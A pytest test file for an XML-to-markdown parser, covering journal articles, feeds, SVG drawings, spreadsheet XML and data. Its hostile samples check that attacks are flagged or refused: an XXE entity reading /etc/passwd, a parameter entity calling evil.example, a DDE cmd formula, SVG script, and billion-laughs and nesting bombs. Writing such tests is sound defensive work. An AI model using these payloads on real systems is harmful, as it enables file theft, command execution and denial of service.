"""TEST: XML: articles, feeds, outlines, drawings, workbooks, data, and documents that attack their reader."""

import pytest

from contract.verdicts import ElementType, Refusal
from parsers.blocks import Refused
from tests.parsers.reading import evidence, found, kinds, markdown, read, shown, titles

XML, SVG = "application/xml", "image/svg+xml"

JATS = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE article PUBLIC "-//NLM//DTD JATS//EN" "JATS.dtd">
<article xml:lang="en" xmlns:xlink="http://www.w3.org/1999/xlink"><front>
<journal-meta><journal-title>Journal of Tests</journal-title></journal-meta>
<article-meta><article-id>10.1</article-id><title-group>
<article-title>On <italic>glove</italic> ports</article-title></title-group>
<contrib-group><contrib contrib-type="author"><name><surname>Ng</surname><given-names>Ada</given-names></name></contrib>
<contrib contrib-type="editor"><name><surname>Ed</surname><given-names>I</given-names></name></contrib></contrib-group>
<aff id="a"><label>1</label>Institute of <institution>Boxes</institution></aff>
<pub-date><day>6</day><month>5</month><year>2024</year></pub-date>
<abstract><p>We touch nothing.</p></abstract><kwd-group><kwd>boxes</kwd><kwd>gloves</kwd></kwd-group></article-meta>
</front>
<body><sec><label>1.</label><title>Introduction</title>
<p>As shown <xref ref-type="bibr" rid="r1">[1]</xref>, H<sub>2</sub>O and
10<sup>6</sup> with <inline-formula><tex-math>$x^2$</tex-math></inline-formula><fn><p>A note.</p></fn>.</p>
<disp-formula><label>(1)</label><tex-math><![CDATA[\\documentclass{a}\\begin{document}$$E=mc^2$$\\end{document}]]>
</tex-math></disp-formula>
<sec><title>Details</title><list list-type="order"><list-item><p>one</p></list-item><list-item><p>two</p>
<list list-type="bullet"><list-item><p>inner</p></list-item></list></list-item></list></sec>
<fig><label>Fig 1</label><caption><title>A box.</title><p>With a hand.</p></caption><graphic xlink:href="x"/></fig>
<table-wrap><label>Table 1</label><caption><title>Sizes.</title></caption><table><thead><tr><th>Name</th><th>cm</th>
</tr></thead>
<tbody><tr><td rowspan="2">Box</td><td>4</td></tr><tr><td>5</td></tr></tbody></table></table-wrap></sec></body>
<back><ack><p>Thanks.</p></ack><ref-list><ref id="r1"><element-citation><person-group><name><surname>Li</surname>
<given-names>B</given-names></name><name><surname>Xu</surname><given-names>C</given-names></name></person-group>
<year>2020</year>
<article-title>Hands</article-title><source>Glove</source><volume>3</volume><fpage>1</fpage><lpage>9</lpage>
</element-citation></ref>
</ref-list></back></article>"""


class TestArticles:
    def test_jats(self) -> None:
        parsed = read(XML, JATS)
        assert markdown(parsed) == (
            "# On *glove* ports\n\nAda Ng\n\n1 Institute of Boxes\n\n## Abstract\n\nWe touch nothing.\n\n"
            "Keywords: boxes, gloves\n\n## 1. Introduction\n\nAs shown [1], H2O and 10^6 with $x^2$[^1].\n\n"
            "$$\nE=mc^2\n$$ (1)\n\n### Details\n\n1. one\n2. two\n   - inner\n\nFig 1 A box. With a "
            "hand.\n\nTable 1 Sizes.\n\n"
            "| Name | cm |\n| --- | --- |\n| Box | 4 |\n| Box | 5 |\n\n## Acknowledgments\n\nThanks.\n\n## "
            "References\n\n"
            "- Li B, Xu C. Hands. Glove 3: 1–9. 2020\n\n[^1]: A note.\n"
        )
        assert (parsed.title, parsed.author, parsed.created) == ("On glove ports", "Ada Ng", "2024-05-06")
        assert parsed.languages == ["en"]

    def test_docbook(self) -> None:
        book = """<book xmlns="http://docbook.org/ns/docbook" xmlns:l="http://www.w3.org/1999/xlink"><info>
<title>Manual</title>
        <author><personname>Ada Ng</personname></author></info><chapter><title>Start</title>
<para>Run <command>make</command>,
        see <link l:href="http://x.org/">here</link>.</para><itemizedlist><listitem><para>a</para></listitem>
</itemizedlist>
        <programlisting language="sh">make\n  test</programlisting><table><title>T</title><tgroup cols="2">
        <colspec colname="c1"/><colspec colname="c2"/><thead><row><entry namest="c1" nameend="c2">Both</entry></row>
</thead>
        <tbody><row><entry>1</entry><entry morerows="0">2</entry></row></tbody></tgroup></table></chapter></book>"""
        assert (
            "Run `make`, see [here](http://x.org/).\n\n- a\n\n```sh\nmake\n  test\n```\n\nT\n\n| Both | Both |"
            in shown(XML, book)
        )
        assert read(XML, book).title == "Manual"
        assert read(XML, book).author == "Ada Ng"

    def test_hidden_runs_of_word_2003(self) -> None:
        word = (
            '<w:wordDocument xmlns:w="u"><w:body><w:p><w:r><w:t>seen </w:t></w:r><w:r><w:rPr><w:b/></w:rPr>'
            "<w:t>bold</w:t></w:r>"
            "<w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen</w:t></w:r></w:p><w:p/><w:p/></w:body></w:wordDocument>"
        )
        parsed = read(XML, word)
        assert markdown(parsed) == "seen **bold**\n"
        assert found(parsed) == ["hidden_text"]


class TestFeeds:
    def test_rss(self) -> None:
        feed = """<rss version="2.0"><channel><title>News</title><description>All of it</description><item>
<title>One &amp;amp; two</title>
        <link>http://x.org/1</link><pubDate>Mon, 06 May 2024 10:00:00 GMT</pubDate>
<description>&lt;p&gt;A &lt;b&gt;bold&lt;/b&gt; move&lt;/p&gt;
        </description></item></channel></rss>"""
        assert markdown(read(XML, feed)) == (
            "# News\n\nAll of it\n\n## One & two\n\nMon, 06 May 2024 10:00:00 GMT http://x.org/1\n\nA **bold** move\n"
        )

    def test_atom(self) -> None:
        feed = """<feed xmlns="http://www.w3.org/2005/Atom"><title>News</title>
<updated>2024-05-06T10:00:00Z</updated><entry>
        <title>One</title><link rel="self" href="http://x.org/s"/><link href="http://x.org/1"/><author>
<name>Ada</name></author>
        <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Words</p></div></content></entry></feed>"""
        parsed = read(XML, feed)
        assert markdown(parsed) == "# News\n\n## One\n\nAda http://x.org/1\n\nWords\n"
        assert parsed.modified == "2024-05-06T10:00:00Z"

    def test_opml(self) -> None:
        outline = """<opml><head><title>Reading</title></head><body><outline text="Group"><outline text="A feed"
        xmlUrl="http://x.org/feed"/></outline></body></opml>"""
        assert shown(XML, outline) == "# Reading\n\n- Group\n  - [A feed](http://x.org/feed)\n"


class TestDrawings:
    def test_labels_and_what_is_hidden(self) -> None:
        drawing = """<svg xmlns="http://www.w3.org/2000/svg"><title>Plan</title><defs><text>unused</text></defs>
        <g><text>Kitchen <tspan y="2">and hall</tspan></text></g><text display="none">one</text>
        <g style="opacity:0"><text>two</text></g><text font-size="0">three</text><text fill="none">four</text></svg>"""
        parsed = read(SVG, drawing)
        assert markdown(parsed) == "# Plan\n\nKitchen and hall\n"
        assert evidence(parsed) == "4 labels: one"

    def test_scripts_and_addresses(self) -> None:
        drawing = """<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>alert(1)</script>
        <image href="http://evil.example/a.png"/><text>seen</text></svg>"""
        parsed = read(SVG, drawing)
        assert markdown(parsed) == "seen\n"
        assert found(parsed) == ["active_content", "external_reference"]


class TestWorkbooks:
    BOOK = (
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
        '{}<Worksheet ss:Name="Data"><Table><Row><Cell><Data ss:Type="String">Name</Data></Cell><Cell>'
        '<Data ss:Type="String">'
        'Size</Data></Cell></Row><Row><Cell ss:Index="2"{}><Data ss:Type="Number">1.1000000000000001</Data>'
        "</Cell></Row>"
        '<Row ss:Hidden="1"><Cell><Data>unseen</Data></Cell></Row></Table></Worksheet></Workbook>'
    )

    def test_cells(self) -> None:
        assert shown(XML, self.BOOK.format("", "")) == "# Data\n\n| Name | Size |\n| --- | --- |\n|  | 1.1 |\n"

    def test_a_hidden_sheet_and_a_formula_that_runs(self) -> None:
        sheet = (
            '<Worksheet ss:Name="H"><Table><Row><Cell><Data>unseen</Data></Cell></Row></Table>'
            "<WorksheetOptions><Visible>SheetHidden</Visible></WorksheetOptions></Worksheet>"
        )
        parsed = read(XML, self.BOOK.format(sheet, """ ss:Formula="=cmd|' /C calc'!A0" """))
        assert "unseen" not in markdown(parsed)
        assert found(parsed) == ["active_content", "hidden_text"]


class TestData:
    def test_data_stays_what_it_is(self) -> None:
        data = (
            '<?xml version="1.0"?><!-- a licence --><a:list xmlns:a="urn:a">'
            '<a:item id="1">x &amp; y</a:item><empty/></a:list>'
        )
        assert shown(XML, data) == (
            '```xml\n<a:list xmlns:a="urn:a">\n  <a:item id="1">x &amp; y</a:item>\n  <empty/>\n</a:list>\n```\n'
        )

    def test_html_in_data_is_read(self) -> None:
        data = "<facts><id>7</id><policy>&lt;p&gt;All of the &lt;b&gt;rules&lt;/b&gt; of it.&lt;/p&gt;</policy></facts>"
        assert "## policy\n\nAll of the **rules** of it.\n" in shown(XML, data)

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1"])
    def test_encodings(self, encoding: str) -> None:
        """UTF-16 that declares itself UTF-8 is read as what it is."""
        declared = "utf-8" if encoding == "utf-16" else encoding
        data = f'<?xml version="1.0" encoding="{declared}"?><a>Grüße</a>'.encode(encoding)
        assert "Grüße" in shown(XML, data)

    def test_what_is_not_well_formed_is_read_with_a_finding(self) -> None:
        parsed = read(XML, "<a><b>one</b><b>two</c></a>")
        assert "one" in markdown(parsed)
        assert found(parsed) == ["truncated"]

    def test_no_xml_at_all(self) -> None:
        with pytest.raises(Refused) as refused:
            read(XML, "words alone")
        assert refused.value.refusal is Refusal.CORRUPT


class TestEntities:
    def test_declared_and_named_ones(self) -> None:
        data = '<!DOCTYPE a SYSTEM "a.dtd" [<!ENTITY co "Box &#38; Co">]><a><b>&co;&nbsp;&uuml; &unknown;!</b></a>'
        assert "Box &amp; Co\u00a0ü !" in shown(XML, data)

    def test_an_external_entity_is_a_finding_and_stays_out(self) -> None:
        """The classic: a file of the machine as a part of the document."""
        parsed = read(XML, '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a><b>seen &x;</b></a>')
        assert "root:" not in markdown(parsed)
        assert found(parsed) == ["external_entity"]

    def test_a_parameter_entity(self) -> None:
        parsed = read(XML, '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><a><b>seen</b></a>')
        assert "seen" in markdown(parsed)
        assert found(parsed) == ["external_entity"]

    def test_a_billion_laughs(self) -> None:
        """Ten levels of ten references each: 30 GB of text."""
        levels = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 11))
        with pytest.raises(Refused) as refused:
            read(XML, f'<!DOCTYPE a [<!ENTITY l0 "ha">{levels}]><a>&l10;</a>')
        assert refused.value.refusal is Refusal.BOMB

    def test_quadratic_growth(self) -> None:
        """One long entity, referred to many times."""
        with pytest.raises(Refused) as refused:
            read(XML, f'<!DOCTYPE a [<!ENTITY x "{"x" * 9000}">]><a>{"&x;" * 2000}</a>')
        assert refused.value.refusal is Refusal.BOMB


class TestHostile:
    def test_depth(self) -> None:
        """Deeper than libxml2 goes: what stands above is read, with a finding."""
        document = "<a><p>seen <b>x</b></p>" + "<a>" * 5000 + "x" + "</a>" * 5000 + "</a>"
        assert "seen" in shown(XML, document)

    @pytest.mark.parametrize("nested", ["sec", "list", "table", "fn", "caption", "fig", "bold"])
    def test_nesting_within_that_depth(self, nested: str) -> None:
        inner = {"table": ("<table><tr><td>x", "</td></tr></table>")}.get(
            nested, (f"<{nested}><p>x", f"</p></{nested}>")
        )
        count = 70 if nested == "table" else 110
        document = "<body><p>seen <i>y</i></p>" + inner[0] * count + inner[1] * count + "</body>"
        assert "seen" in shown(XML, document)

    def test_tens_of_thousands_of_attributes(self) -> None:
        """libxml2 compares each with all others."""
        with pytest.raises(Refused) as refused:
            read(XML, "<a " + " ".join(f'a{at}="b"' for at in range(50_000)) + "/>")
        assert refused.value.refusal is Refusal.BOMB

    def test_a_far_row_and_a_far_cell(self) -> None:
        """Two cells that claim to stand a million rows and columns apart."""
        book = TestWorkbooks.BOOK.format("", "").replace('ss:Index="2"', 'ss:Index="9999999"')
        parsed = read(XML, book.replace("<Row><Cell ss", '<Row ss:Index="9999999"><Cell ss'))
        assert len(markdown(parsed)) < 100_000
        assert [kind for kind, _ in kinds(parsed)] == [ElementType.TITLE, ElementType.TABLE]
        assert titles(parsed) == [(1, "Data")]
